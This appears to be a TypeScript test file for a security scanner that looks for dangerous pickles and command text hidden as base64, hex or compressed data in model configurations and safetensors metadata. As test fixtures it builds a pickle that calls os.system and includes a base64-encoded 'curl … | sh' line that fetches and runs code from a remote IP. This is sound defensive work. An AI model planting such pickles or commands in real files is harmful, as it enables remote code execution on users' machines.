import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { decodeEncoded } from "../../src/scanners/encoded-text.js";
import * as p from "../builders/pickle.js";
import { oneTensor } from "../builders/safetensors.js";
import { PLAIN_PICKLE } from "../builders/samples.js";
import { scanBytes, told } from "../builders/scan.js";

const base64 = (content: Uint8Array | string) => Buffer.from(content).toString("base64");
const EVIL = p.osSystem();
/** A cloudpickle of a class of a known library, as Stable-Baselines3 writes its policy. */
const POLICY = p.pickle(
  p.proto(4),
  p.text("stable_baselines3.common.policies"),
  p.text("ActorCriticPolicy"),
  p.stackGlobal,
  p.stop,
);

const scanJson = async (value: unknown) => told(await scanBytes("data", JSON.stringify(value)));

describe("a text that spells a pickle", () => {
  it("is looked into where it stands in a configuration", async () => {
    const entry = (pickle: Uint8Array) => ({
      policy_class: { ":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64(pickle) },
    });
    expect(await scanJson(entry(EVIL))).toContain("critical pickle/unsafe-call");
    expect((await scanJson(entry(POLICY))).filter((line) => !/^(?:info|low)/.test(line))).toEqual([]);
    expect(await scanJson(entry(PLAIN_PICKLE))).toEqual([]);
  });

  it("is looked into behind compression, and in hexadecimal", async () => {
    expect(await scanJson({ state: base64(deflateSync(EVIL)) })).toContain("critical pickle/unsafe-call");
    expect(await scanJson({ state: Buffer.from(EVIL).toString("hex") })).toContain("critical pickle/unsafe-call");
  });

  it("is told where metadata holds it, and other base64 is not", async () => {
    const metadata = async (value: string) =>
      told(await scanBytes("m.safetensors", oneTensor({ __metadata__: { value } })));
    expect(await metadata(base64(EVIL))).toEqual(["medium config/encoded-content"]);
    const icon = base64(Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.alloc(400, 7)]));
    for (const text of [icon, base64('{"learning_rate": 0.001, "note": "os.path is fine"}'), "a".repeat(64)]) {
      expect(await metadata(text)).toEqual([]);
    }
  });

  it("is no digest that begins like a pickle or a compressed stream by chance", async () => {
    const digest = (head: string) => head.padEnd(64, "49f1c37a");
    for (const head of ["8004", "80029500", "789c6360", "7801cb48"]) {
      expect(await scanJson({ sha256: digest(head), integrity: base64(Buffer.from(digest(head), "hex")) })).toEqual([]);
    }
    const harmless = p.pickle(p.proto(4), p.text("some words of a value"), p.stop);
    expect(decodeEncoded(Buffer.from(harmless).toString("hex"))?.kind).toBe("content");
    expect(decodeEncoded(base64(deflateSync(harmless)))?.kind).toBe("content");
    const broken = p.osSystem("id", 4).subarray(0, -1);
    expect(await scanJson({ hash: Buffer.from(broken).toString("hex") })).toContain("critical pickle/unsafe-call");
  });

  it("is told where it spells a command", async () => {
    expect(await scanJson({ hook: base64("import os;os.system('curl http://203.0.113.7/x | sh')") })).toEqual([
      "medium config/command-text",
    ]);
    expect(await scanJson({ hook: base64("import numpy as np; np.mean([1, 2, 3])") })).toEqual([]);
  });
});

describe("words", () => {
  it.each([
    "deadbeef".repeat(8),
    "0123456789abcdef0123456789abcdef01234567",
    "TheQuickBrownFoxJumpsOverTheLazyDog",
    "model_layers_0_attention_query_weight",
    "could\nsee\nVirginia\nwhich\n",
  ])("are no encoded content: %j", (text) => expect(decodeEncoded(text)).toBeUndefined());
});
